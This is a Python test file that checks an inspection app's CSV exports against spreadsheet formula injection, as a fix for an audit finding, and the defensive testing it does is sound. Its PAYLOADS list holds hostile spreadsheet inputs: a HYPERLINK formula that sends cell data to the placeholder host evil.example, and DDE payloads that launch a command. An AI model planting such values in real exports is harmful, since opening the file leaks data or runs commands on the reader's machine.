"""Finding 12: CSV exports allowed formula injection: a site name or an inspector's name that
begins with ``=``, ``+``, ``-``, ``@`` (or a tab or CR) ran as a formula when a supervisor opened
the export in a spreadsheet."""

import csv
import io

import pytest

from detector.engine.sites import export_sites, import_sites, list_sites
from tests.support.postgres import postgres_server, postgres_url  # noqa: F401 - fixtures
from tests.web.conftest import Browser

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def poisoned(app, tmp_path):
    svc = app.extensions["ansim"]
    rows = ["id,name,address,lat,lon,stalls"]
    for i, payload in enumerate(PAYLOADS):
        quoted = '"' + payload.replace('"', '""') + '"'
        rows.append(f"S{i},{quoted},{quoted},-33.8688,-151.2093,1")
    sites = tmp_path / "sites.csv"
    sites.write_text("\n".join(rows) + "\n", encoding="utf-8")
    import_sites(svc.inspections.store, sites)
    for i, payload in enumerate(PAYLOADS):
        state = svc.inspections.start(f"S{i}", payload)
        svc.inspections.cancel(state.id, "test")
    return svc


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_the_log_export_never_starts_a_cell_with_a_formula(poisoned, admin):
    response = admin.client.get("/api/log/export.csv")
    assert response.status_code == 200
    cells = _cells(response.get_data(as_text=True))
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    for payload in PAYLOADS:  # still there, readable, as text (names are stored stripped)
        assert "'" + payload.strip() in cells


def test_the_sites_export_never_starts_a_cell_with_a_formula(poisoned, admin):
    cells = _cells(admin.client.get("/api/sites/export.csv").get_data(as_text=True))
    assert not [c for c in cells if c.startswith(TRIGGERS) and c not in ("-33.8688", "-151.2093")]
    assert "-33.8688" in cells  # numbers stay numbers


def test_an_exported_registry_imports_back_unchanged(poisoned, tmp_path):
    store = poisoned.inspections.store
    out = io.StringIO()
    export_sites(store, out)
    before = {s.id: s for s in list_sites(store)}
    again = tmp_path / "again.csv"
    again.write_text(out.getvalue(), encoding="utf-8")
    import_sites(store, again)
    assert {s.id: s for s in list_sites(store)} == before
    assert {s.name for s in before.values()} == {p.strip() for p in PAYLOADS}


def test_the_hubs_city_export_never_starts_a_cell_with_a_formula(postgres_url, tmp_path):
    from tests.hub.conftest import hub_app  # noqa: PLC0415

    hub = hub_app(postgres_url, tmp_path / "hub")
    try:
        store = hub.extensions["ansim"].inspections.store
        sites = tmp_path / "city.csv"
        sites.write_text('id,name,district\nS1,Station,"=HYPERLINK(""http://x"",""y"")"\n',
                         encoding="utf-8")
        import_sites(store, sites)
        accounts = hub.extensions["ansim"].accounts
        accounts.create_first_admin("admin", "correct horse battery", "Admin")
        supervisor = Browser(hub)
        supervisor.login("admin", "correct horse battery")
        text = supervisor.client.get("/api/city/export.csv").get_data(as_text=True)
        cells = _cells(text.lstrip("\ufeff"))
        assert not [c for c in cells if c.startswith(TRIGGERS)]
        assert '\'=HYPERLINK("http://x","y")' in cells
    finally:
        hub.extensions["ansim"].inspections.close()
